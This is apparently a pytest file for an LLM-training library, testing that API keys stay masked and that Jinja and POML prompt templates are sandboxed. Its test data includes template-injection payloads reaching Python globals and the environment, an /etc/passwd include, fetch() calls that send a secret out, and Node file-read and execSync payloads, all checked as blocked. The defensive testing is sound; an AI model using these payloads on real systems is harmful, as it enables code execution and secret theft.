"""Resources: endpoints whose keys stay secret, and templates that are data, not code."""

import asyncio
import contextlib
import io
import os
import pickle
import signal
import socket
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import msgspec
import pytest
from rich.console import Console

from sharpen import SQLiteStore
from sharpen.errors import ConfigError, InvalidInputError, MissingValueError, SecretError
from sharpen.types import (
    LLM,
    Attempt,
    AttemptedRollout,
    PromptTemplate,
    ProxyLLM,
    Resource,
    ResourcesUpdate,
    check_no_secrets,
)
from tests.errors import raises
from tests.runner.internals import with_keys
from tests.types.internals import prompt_template

CLAIMED = AttemptedRollout("ro-1", "task", 0.0, attempt=Attempt("ro-1", "at-1", 1, 0.0))

EVERY_RESOURCE = [
    LLM("http://localhost:8000/v1", "small", "env:KEY", {"temperature": 0.7}),
    ProxyLLM("http://localhost:8000/v1", "small"),
    PromptTemplate("Hello {name}", "jinja"),
]


# -- telling resources apart -------------------------------------------------------------------------


@pytest.mark.parametrize("resource", EVERY_RESOURCE, ids=lambda r: r.resource_type)
def test_a_resource_comes_back_from_json_as_its_own_type(resource):
    back = msgspec.json.decode(msgspec.json.encode(resource), type=Resource)
    assert back == resource
    assert type(back) is type(resource)


def test_the_resource_type_is_on_the_wire():
    kinds = [msgspec.to_builtins(resource)["resource_type"] for resource in EVERY_RESOURCE]
    assert kinds == ["llm", "proxy_llm", "prompt_template"]
    assert kinds == [resource.resource_type for resource in EVERY_RESOURCE]


def test_the_right_resource_type_may_be_given_to_the_constructor():
    assert LLM(resource_type="llm", endpoint="http://e", model="m") == LLM("http://e", "m")
    assert ProxyLLM("http://e", "m", resource_type="proxy_llm") == ProxyLLM("http://e", "m")
    assert PromptTemplate("x", resource_type="prompt_template") == PromptTemplate("x")


@pytest.mark.parametrize(
    "make",
    [
        lambda: LLM("http://e", "m", resource_type="proxy_llm"),
        lambda: ProxyLLM("http://e", "m", resource_type="llm"),
        lambda: PromptTemplate("x", resource_type="prompt"),
    ],
)
def test_a_wrong_resource_type_is_an_error(make):
    with raises(ConfigError, "resource_type"):
        make()


def test_an_unknown_resource_type_from_json_is_refused():
    with raises(msgspec.ValidationError, "resource_type"):
        msgspec.convert({"resource_type": "tool", "endpoint": "http://e", "model": "m"}, Resource)


def test_a_version_of_resources_comes_back_equal_from_json():
    update = ResourcesUpdate("rs-1", 1.0, 2.0, 3, {r.resource_type: r for r in EVERY_RESOURCE})
    assert msgspec.json.decode(msgspec.json.encode(update), type=ResourcesUpdate) == update


def test_two_endpoints_do_not_share_their_sampling_parameters():
    first, second = LLM("http://e", "m"), LLM("http://e", "m")
    first.sampling_parameters["top_p"] = 1
    assert second.sampling_parameters == {}


# -- secrets -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [LLM, ProxyLLM])
def test_a_literal_key_is_not_shown(kind):
    llm = kind("http://e", "m", api_key="sk-secret")
    console = Console(file=io.StringIO(), width=200)
    console.print(llm)
    for shown in (repr(llm), str(llm), f"{llm}", f"{[llm]}", console.file.getvalue()):
        assert "sk-secret" not in shown
        assert "***" in shown


def test_a_reference_to_a_key_is_shown():
    assert "env:OPENAI_API_KEY" in repr(LLM("http://e", "m", api_key="env:OPENAI_API_KEY"))


def test_a_hidden_key_still_reaches_the_agent():
    llm = LLM("http://e", "m", api_key="sk-secret")
    assert llm.api_key == "sk-secret"
    assert llm.resolve_api_key() == "sk-secret"
    assert pickle.loads(pickle.dumps(llm)).api_key == "sk-secret"


def test_a_reference_is_resolved_from_the_environment_where_it_is_used(monkeypatch):
    llm = LLM("http://e", "m", api_key="env:SHARPEN_TEST_KEY")
    monkeypatch.setenv("SHARPEN_TEST_KEY", "sk-found")
    assert llm.resolve_api_key() == "sk-found"
    assert llm.api_key == "env:SHARPEN_TEST_KEY"


def test_a_reference_to_a_missing_variable_is_an_error_that_names_it(monkeypatch):
    monkeypatch.delenv("SHARPEN_TEST_KEY", raising=False)
    with raises(ConfigError, "SHARPEN_TEST_KEY"):
        LLM("http://e", "m", api_key="env:SHARPEN_TEST_KEY").resolve_api_key()


def test_no_key_resolves_to_none():
    assert LLM("http://e", "m").resolve_api_key() is None


def test_a_literal_key_is_refused_with_a_hint_that_does_not_show_it():
    with raises(SecretError, "judge") as caught:
        check_no_secrets({"main": LLM("http://e", "m"), "judge": ProxyLLM("http://e", "m", api_key="sk-secret")})
    assert "sk-secret" not in str(caught.value)


HIDDEN_IN = [
    LLM("http://ann:hunter2@host/v1", "m"),
    LLM("http://hunter2@host/v1", "m"),
    ProxyLLM("https://host/v1?key=hunter2", "m"),
    LLM("https://host/v1?api-version=1&subscription_token=hunter2", "m"),
    LLM("http://e", "m", None, {"api_key": "hunter2"}),
    LLM("http://e", "m", None, {"extra_headers": {"X-Api-Key": "hunter2"}}),
    LLM("http://e", "m", None, {"extra_headers": {"Ocp-Apim-Subscription-Key": "hunter2"}}),
    LLM("http://e", "m", None, {"extra_query": {"key": "hunter2"}}),
    LLM("http://e", "m", None, {"extra_body": {"api_keys": ["hunter2"]}}),
    LLM("http://e", "m", None, {"extra_body": {"provider": [{"password": "hunter2"}]}}),
    LLM("http://e", "m", None, {"user": "Bearer hunter2"}),
]


@pytest.mark.parametrize("llm", HIDDEN_IN, ids=range(len(HIDDEN_IN)))
def test_a_secret_in_endpoint_or_parameters_is_neither_stored_nor_shown(llm, tmp_path):
    with raises(SecretError, "judge") as caught:
        check_no_secrets({"judge": llm})
    assert "hunter2" not in str(caught.value) + repr(llm)
    with pytest.raises(SecretError):
        asyncio.run(_store(llm, tmp_path / "store.db"))


async def _store(llm, path):
    store = SQLiteStore(path)
    try:
        await store.add_resources({"judge": llm})
    finally:
        await store.close()


def test_ordinary_endpoints_and_parameters_hold_no_secret():
    parameters = {"max_tokens": 5, "stop_token_ids": [1], "logit_bias": {"50256": -100}, "extra_body": {"seed": None}}
    parameters |= {"prompt_cache_key": "a", "stream": True, "stop": ["token:"], "extra_headers": {}, "api_key": None}
    for endpoint in (
        "http://auth-proxy:8000/v1",
        "https://host/v1?api-version=2024-10-21",
        "http://[::1]:8/v1",
        "",
        "[",
    ):
        llm = LLM(endpoint, "m", "env:KEY", parameters)
        check_no_secrets({"llm": llm})
        assert repr(endpoint) in repr(llm)


def test_references_and_templates_hold_no_secret():
    check_no_secrets({"llm": LLM("http://e", "m", api_key="env:KEY"), "prompt": PromptTemplate("sk-not-a-key")})


# -- URLs of the gateway -----------------------------------------------------------------------------


def test_a_plain_endpoint_is_its_own_url():
    assert LLM("http://e/v1", "m").get_base_url() == "http://e/v1"
    assert LLM("http://e/v1", "m").get_base_url("ro-1", "at-1") == "http://e/v1"


@pytest.mark.parametrize(
    ("endpoint", "url"),
    [
        ("http://gateway:9", "http://gateway:9/rollout/ro-1/attempt/at-1"),
        ("http://gateway:9/", "http://gateway:9/rollout/ro-1/attempt/at-1"),
        ("http://gateway:9/v1", "http://gateway:9/rollout/ro-1/attempt/at-1/v1"),
        ("http://gateway:9/v1/", "http://gateway:9/rollout/ro-1/attempt/at-1/v1"),
    ],
)
def test_a_gateway_url_names_rollout_and_attempt(endpoint, url):
    llm = ProxyLLM(endpoint, "m")
    assert llm.get_base_url("ro-1", "at-1") == url
    assert llm.get_base_url(rollout_id="ro-1", attempt_id="at-1") == url


def test_a_gateway_url_without_ids_is_the_endpoint():
    assert ProxyLLM("http://gateway:9/v1", "m").get_base_url() == "http://gateway:9/v1"


@pytest.mark.parametrize("ids", [("ro-1", None), (None, "at-1"), ("ro-1",)])
def test_a_gateway_url_with_only_one_id_is_an_error(ids):
    with pytest.raises(ConfigError):
        ProxyLLM("http://gateway:9", "m").get_base_url(*ids)


def test_a_gateway_llm_bound_to_an_attempt_is_a_plain_llm():
    llm = ProxyLLM("http://gateway:9/v1", "m", "env:KEY", {"temperature": 0}).with_attempted_rollout(CLAIMED)
    assert type(llm) is LLM
    assert llm.endpoint == "http://gateway:9/rollout/ro-1/attempt/at-1/v1"
    assert (llm.model, llm.api_key, llm.sampling_parameters) == ("m", "env:KEY", {"temperature": 0})


def test_a_role_is_part_of_the_url_and_survives_binding():
    llm = ProxyLLM("http://gateway:9/v1", "m").for_role("critic")
    assert llm.endpoint == "http://gateway:9/role/critic/v1"
    assert llm.get_base_url("ro-1", "at-1") == "http://gateway:9/rollout/ro-1/attempt/at-1/role/critic/v1"


def test_a_second_role_replaces_the_first():
    llm = ProxyLLM("http://gateway:9", "m").for_role("critic").for_role("writer")
    assert llm.endpoint == "http://gateway:9/role/writer"


def test_ids_and_roles_cannot_break_out_of_their_place_in_the_url():
    llm = ProxyLLM("http://gateway:9", "m").for_role("a/b c")
    assert llm.get_base_url("../x?y", "at#1") == "http://gateway:9/rollout/..%2Fx%3Fy/attempt/at%231/role/a%2Fb%20c"


# -- templates ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["self", "template", "engine", "values"])
def test_any_name_may_be_a_field(name):
    assert PromptTemplate(f"<{{{name}}}>").format(**{name: "x"}) == "<x>"


def test_an_unknown_engine_is_an_error():
    with raises(ConfigError, "mustache"):
        PromptTemplate("x", engine="mustache")
    with raises(ValueError, "engine"):
        msgspec.convert({"resource_type": "prompt_template", "template": "x", "engine": "mustache"}, Resource)


def test_a_jinja_template_is_rendered():
    template = PromptTemplate("{% for n in names %}{{ n|upper }} {% endfor %}", engine="jinja")
    assert template.format(names=["ann", "bob"]) == "ANN BOB "


@pytest.mark.parametrize("use", ["{{ txt }}", "{{ txt|upper }}", "{% for c in txt %}{% endfor %}", "{{ 'a' ~ txt }}"])
def test_a_value_that_a_jinja_template_lacks_is_named_with_the_nearest_name_given(use):
    with raises(MissingValueError, "txt", "text"):
        PromptTemplate(use, engine="jinja").format(text="noon", z="")


def test_an_attribute_that_a_value_of_a_jinja_template_lacks_is_an_error():
    with raises(InvalidInputError, "txt"):
        PromptTemplate("{{ task.txt }}", engine="jinja").format(task={"text": "noon"})


def test_a_jinja_template_may_ask_whether_there_is_a_value():
    template = "{% if hint %}Hint: {{ hint }} {% endif %}{{ hint is defined }} {{ hint|default('none') }}"
    assert PromptTemplate(template, engine="jinja").format() == "False none"
    assert PromptTemplate(template, engine="jinja").format(hint="7") == "Hint: 7 True 7"


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ user.__init__.__globals__ }}",
        "{{ [].__class__.__base__.__subclasses__()[0] }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{{ (''|attr('__class__')).__mro__ }}",
        "{{ '{0.__class__.__mro__}'.format(user) }}",
        "{% for a in ().__class__.__base__.__subclasses__() %}{{ a }}{% endfor %}",
    ],
)
def test_a_jinja_template_cannot_reach_python(attack):
    with pytest.raises(InvalidInputError):
        PromptTemplate(attack, engine="jinja").format(user=object())


@pytest.mark.parametrize(
    "attack", ["{{ names.append('eve') }}", "{{ names.clear() }}", "{{ ages.update(eve=1) }}", "{{ ages.pop('ann') }}"]
)
def test_a_jinja_template_cannot_change_its_values(attack):
    names, ages = ["ann"], {"ann": 30}
    with pytest.raises(InvalidInputError):
        PromptTemplate(attack, engine="jinja").format(names=names, ages=ages)
    assert (names, ages) == (["ann"], {"ann": 30})


@pytest.mark.parametrize(
    "broken", ["{% if %}", "{{ 1 / 0 }}", "{% include '/etc/passwd' %}", "{{ range(10 ** 9) }}", "{{ 1 + 'a' }}"]
)
def test_a_broken_jinja_template_is_an_input_error(broken):
    with pytest.raises(InvalidInputError):
        PromptTemplate(broken, engine="jinja").format()


def test_a_poml_template_is_rendered():
    hostile = "{{ 6 * 7 }} <b>\"&'</b> #lt; {x}"
    template = PromptTemplate('<poml><task caption="{{name}}">Hello {{ name }}: {{n}}</task></poml>', engine="poml")
    assert template.format(name=hostile, n=7) == f"# {hostile}\n\nHello {hostile}: 7"


def test_a_poml_template_runs_expressions_only_where_code_is_allowed():
    text = '<poml><p for="x in xs">{{ 6 * x }}</p></poml>'
    assert PromptTemplate(text, engine="poml", allows_code=True).format(xs=[7]) == "42"
    with raises(InvalidInputError, "allows_code=True"):
        PromptTemplate(text, engine="poml").format(xs=[7])


def test_a_value_that_a_poml_template_lacks_is_named_with_the_nearest_name_given():
    with raises(MissingValueError, "txt", "text"):
        PromptTemplate("<p>{{txt}}</p>", engine="poml").format(text="noon", z="")


@pytest.mark.parametrize("engine", ["f-string", "jinja"])
def test_only_poml_templates_can_allow_code(engine):
    with raises(ConfigError, "allows_code"):
        PromptTemplate("x", engine, allows_code=True)


def test_whether_code_is_allowed_survives_the_trip_through_json():
    for resource in (PromptTemplate("x", "poml"), PromptTemplate("x", "poml", allows_code=True)):
        assert msgspec.json.decode(msgspec.json.encode(resource), type=Resource) == resource
    assert msgspec.convert({"resource_type": "prompt_template", "template": "x"}, Resource).allows_code is False


# Each of these reaches the network or JavaScript, some behind the back of a check of the text.
HOSTILE_POML = [
    "<p>{{ (()=>{}).constructor('return fetch')()('URL?' + JSON.stringify(secret)) }}</p>",
    "<p>{{ fetch('URL') }}</p>",
    "<p caption=\"{{ fetch('URL') }}\">a</p>",
    "<p if=\"fetch('URL')\">a</p>",
    "<p\nIF = \"fetch('URL')\">a</p>",
    '<p title="a > b" if="fetch(\'URL\')">a</p>',
    "<item for=\"x in [fetch('URL')]\">a</item>",
    '<let name="a" value="fetch(\'URL\')" /><p>a</p>',
    "<output-schema>fetch('URL')</output-schema><p>a</p>",
    "<OutputSchema parser=\"eval\">fetch('URL')</OutputSchema><p>a</p>",
    "<tool name=\"t\">fetch('URL')</tool><p>a</p>",
    '<webpage url="URL?{{secret}}" />',
    '<img src="URL?{{secret}}" />',
    '<document src="URL?{{secret}}" />',
    '<include src="URL?{{secret}}" />',
]


@pytest.mark.parametrize("body", HOSTILE_POML)
def test_a_poml_template_without_leave_runs_nothing_and_calls_nobody(body):
    called = threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            with contextlib.suppress(OSError):
                server.accept()
                called.set()

        listener = threading.Thread(target=listen, daemon=True)
        listener.start()
        text = body.replace("URL", f"http://127.0.0.1:{server.getsockname()[1]}/")
        with contextlib.suppress(InvalidInputError):
            PromptTemplate(f"<poml>{text}</poml>", engine="poml").format(secret="s")
        assert not called.is_set()
        server.shutdown(socket.SHUT_RDWR)
    listener.join(10)
    assert not listener.is_alive()


def test_a_poml_template_that_takes_too_long_is_an_input_error(monkeypatch):
    monkeypatch.setattr(prompt_template, "RENDER_TIMEOUT_SECONDS", 0.01)
    with raises(InvalidInputError, 0.01):
        PromptTemplate("<poml><p>a</p></poml>", engine="poml").format()


def test_a_poml_template_that_takes_too_long_leaves_no_process(monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # its processes are found by the path of their folder
    monkeypatch.setattr(prompt_template, "RENDER_TIMEOUT_SECONDS", 4)
    text = "<poml><p>{{ (function () { for (;;); })() }}</p></poml>"
    seen = []
    with ThreadPoolExecutor() as threads:
        rendering = threads.submit(PromptTemplate(text, engine="poml", allows_code=True).format)
        while not rendering.done():
            seen.append(len(processes_with(tmp_path)))
            time.sleep(0.05)
    assert isinstance(rendering.exception(), InvalidInputError)
    left = processes_with(tmp_path)
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert max(seen) >= 1
    assert left == []


def processes_with(folder):
    """The processes in whose environment the folder is named."""
    found = []
    for each in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):  # it has ended, or belongs to somebody else
            if str(folder).encode() in (each / "environ").read_bytes():
                found.append(int(each.name))
    return found


@pytest.mark.parametrize(
    "attack",
    [
        '<document src="{path}" parser="txt" />',
        '<p>{{{{ process.getBuiltinModule("fs").readFileSync("{path}", "utf8") }}}}</p>',
        '<p>{{{{ process.getBuiltinModule("child_process").execSync("cat {path}").toString() }}}}</p>',
    ],
    ids=["document", "fs", "child process"],
)
def test_a_poml_template_cannot_read_files(attack, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    template = PromptTemplate(f"<poml>{attack.format(path=secret)}</poml>", engine="poml", allows_code=True)
    with pytest.raises(InvalidInputError) as caught:
        template.format()
    assert "the secret" not in str(caught.value)


def test_a_poml_template_cannot_write_files(tmp_path):
    target = tmp_path / "written.txt"
    attack = f'<poml><p>{{{{ process.getBuiltinModule("fs").writeFileSync("{target}", "x") }}}}</p></poml>'
    with pytest.raises(InvalidInputError):
        PromptTemplate(attack, engine="poml", allows_code=True).format()
    assert not target.exists()


def test_a_poml_template_does_not_see_the_environment(monkeypatch):
    monkeypatch.setenv("SHARPEN_TEST_KEY", "sk-secret")
    template = PromptTemplate(
        "<poml><p>[{{ process.env.SHARPEN_TEST_KEY }}]</p></poml>", engine="poml", allows_code=True
    )
    assert "sk-secret" not in template.format()


def test_a_broken_poml_template_is_an_input_error_with_the_reason():
    with pytest.raises(InvalidInputError):
        PromptTemplate("<poml><p>broken", engine="poml").format()


def test_a_poml_template_takes_only_values_that_json_has():
    with pytest.raises(InvalidInputError):
        PromptTemplate("<poml><p>{{x}}</p></poml>", engine="poml").format(x=object())


@pytest.mark.parametrize("name", [None, "", 3])
def test_a_role_needs_a_name(name: Any) -> None:
    with pytest.raises(ConfigError):
        ProxyLLM("http://gateway:9/v1", "m").for_role(name)


SCHEMA = {"properties": {"token": {"type": "string"}, "password": {"type": "string"}}, "required": ["token"]}
ORDINARY = [
    {"tools": [{"type": "function", "function": {"name": "login", "parameters": SCHEMA}}]},
    {"response_format": {"json_schema": {"schema": {"properties": {"secret_word": {"type": "string"}}}}}},
    {"extra_headers": {"X-Trace": "1", "Idempotency-Key": "a"}, "extra_query": {"api-version": "2024"}},
]


@pytest.mark.parametrize("parameters", ORDINARY, ids=["tools", "response_format", "headers"])
def test_schemas_and_headers_are_not_secrets_for_what_they_are_called(parameters):
    llm = LLM("http://e", "m", None, parameters)
    check_no_secrets({"llm": llm})
    assert llm.resolve_sampling_parameters() == parameters


def test_a_reference_in_the_parameters_is_stored_and_resolved_where_it_is_used(monkeypatch):
    llm = LLM("http://e", "m", None, {"extra_headers": {"X-Api-Key": "env:SHARPEN_TEST_KEY"}, "stop": ["env:HOME"]})
    check_no_secrets({"llm": llm})
    monkeypatch.delenv("SHARPEN_TEST_KEY", raising=False)
    with raises(ConfigError, "SHARPEN_TEST_KEY"):
        llm.resolve_sampling_parameters()
    assert with_keys({"llm": llm}) == {"llm": llm}
    monkeypatch.setenv("SHARPEN_TEST_KEY", "hunter2")
    found = {"extra_headers": {"X-Api-Key": "hunter2"}, "stop": ["env:HOME"]}
    assert llm.resolve_sampling_parameters() == with_keys({"llm": llm})["llm"].sampling_parameters == found
    assert "hunter2" not in repr(with_keys({"llm": llm}))
